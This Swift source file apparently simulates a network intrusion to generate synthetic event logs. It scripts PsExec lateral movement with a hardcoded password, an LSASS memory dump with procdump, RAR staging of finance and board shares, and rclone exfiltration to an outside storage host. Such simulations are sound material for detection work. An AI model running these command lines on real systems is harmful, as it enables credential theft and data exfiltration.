import Vocabulary

/// The acts on the file server: the first movement, and the theft of data.
extension IntrusionStory {
    mutating func moveToFileServer(_ elevated: Process) -> Process {
        begin(.moveToFileServer, hours: 9, minutes: 22)
        let (source, target) = (stage.world.workstation, stage.world.fileServer)
        let account = stage.world.helpdesk
        stage.workstation.createFile(Tool.remoteShell, by: elevated, at: now)
        let launcher = stage.workstation.start(
            Tool.remoteShell,
            "C:\\Users\\Public\\ps64.exe \\\\\(target.fullName) -accepteula -u \(account.qualifiedName) -p Spring!2231 -s cmd.exe",
            by: elevated, in: "C:\\Users\\Public\\", at: after(20...60))
        let asking = Origin(address: source.address, port: stage.controller.freshPort())
        stage.controller.grantTicket(to: account, from: asking, at: now.advanced(byMilliseconds: 120))
        stage.workstation.useCredentials(
            of: account, towards: target, service: "cifs", by: launcher, at: now.advanced(byMilliseconds: 150))
        let arrival = after(1...2)
        let (session, origin) = stage.logOn(
            account, from: source, to: \.fileServer, on: 445, privileged: true, at: arrival)
        stage.workstation.connect(
            stage.workstation.kernel, from: origin.port, to: target.address, name: target.fullName, port: 445,
            at: arrival.advanced(byMilliseconds: 8))
        fell(target, from: source, by: "PsExec")
        moved(from: source, to: target, as: account, by: "PsExec", technique: "T1021.002", .moveToFileServer)
        tool(Tool.remoteShell, on: source)

        var log = stage.fileServer
        log.openShare("ADMIN$", path: "\\??\\C:\\Windows", by: session, from: origin, at: after(0...1))
        log.openShareFile(
            "PSEXESVC.exe", of: "ADMIN$", path: "\\??\\C:\\Windows", write: true, by: session, from: origin,
            at: now.advanced(byMilliseconds: 30))
        log.createFile("C:\\Windows\\PSEXESVC.exe", by: log.kernel, at: now.advanced(byMilliseconds: 60))
        log.openShare("IPC$", by: session, from: origin, at: now.advanced(byMilliseconds: 220))
        log.openShareFile(
            "svcctl", of: "IPC$", write: true, by: session, from: origin, at: now.advanced(byMilliseconds: 240))
        log.installService(
            "PSEXESVC", file: "%SystemRoot%\\PSEXESVC.exe", by: session, at: now.advanced(byMilliseconds: 400))
        log.service("PSEXESVC", running: true, at: now.advanced(byMilliseconds: 520))
        let service = log.start(
            "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", by: log.services,
            at: now.advanced(byMilliseconds: 490))
        log.createPipe("\\PSEXESVC", by: service, at: now.advanced(byMilliseconds: 600))
        for stream in ["stdin", "stdout", "stderr"] {
            let pipe = "PSEXESVC-\(source.name)-\(launcher.id)-\(stream)"
            log.createPipe("\\" + pipe, by: service, at: now.advanced(byMilliseconds: 700))
            log.openShareFile(
                pipe, of: "IPC$", write: true, by: session, from: origin, at: now.advanced(byMilliseconds: 720))
        }
        let shell = log.start(Tool.shell, "\"cmd.exe\"", by: service, at: after(1...2))
        log.start(Tool.system("whoami.exe"), "whoami", by: shell, at: after(4...12))
        for file in ["procdump64.exe", "rar.exe", "rclone.exe"] {
            log.openShareFile(
                "PerfLogs\\" + file, of: "C$", path: "\\??\\C:\\", write: true, by: session, from: origin,
                at: after(20...90))
            log.createFile("C:\\PerfLogs\\" + file, by: log.kernel, at: now.advanced(byMilliseconds: 45))
            tool("C:\\PerfLogs\\" + file, on: target)
        }
        stage.fileServer = log
        return shell
    }

    mutating func stealServerCredentials(_ shell: Process) {
        begin(.serverCredentialTheft)
        let dump = "C:\\PerfLogs\\lsass_fs.dmp"
        let dumper = stage.fileServer.start(
            "C:\\PerfLogs\\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe \(dump)", by: shell,
            in: "C:\\PerfLogs\\", at: after(240...600))
        stage.fileServer.open(
            stage.fileServer.securityAuthority, by: dumper, access: 0x1F_FFFF, trace: Tool.dumpTrace,
            at: now.advanced(byMilliseconds: 210))
        stage.fileServer.createFile(dump, by: dumper, at: now.advanced(byMilliseconds: 240))
        stage.fileServer.end(dumper, at: after(3...8))
    }

    mutating func collect(_ shell: Process) {
        begin(.collection, hours: 19, minutes: 12)
        let packer = stage.fileServer.start(
            "C:\\PerfLogs\\rar.exe",
            "rar.exe a -hpQ3close! -v500m -r C:\\PerfLogs\\out\\q3.rar D:\\Shares\\Finance D:\\Shares\\Board",
            by: shell,
            in: "C:\\PerfLogs\\", at: now)
        for part in 1...6 {
            stage.fileServer.createFile("C:\\PerfLogs\\out\\q3.part\(part).rar", by: packer, at: after(90...240))
        }
        stage.fileServer.end(packer, at: after(20...60))
    }

    mutating func exfiltrate(_ shell: Process) {
        begin(.exfiltration, hours: 20, minutes: 4)
        let copier = stage.fileServer.start(
            "C:\\PerfLogs\\rclone.exe",
            "rclone.exe copy C:\\PerfLogs\\out crate:q3 --config C:\\PerfLogs\\r.conf --transfers 8 --no-check-certificate",
            by: shell, in: "C:\\PerfLogs\\", at: now)
        stage.fileServer.resolve(Self.storage.name, to: Self.storage.address, by: copier, at: after(1...2))
        for _ in 0..<8 {
            stage.fileServer.connect(
                copier, from: stage.fileServer.freshPort(), to: Self.storage.address, name: Self.storage.name,
                port: 443, at: after(5...200))
        }
        stage.fileServer.end(copier, at: after(300...900))
    }
}
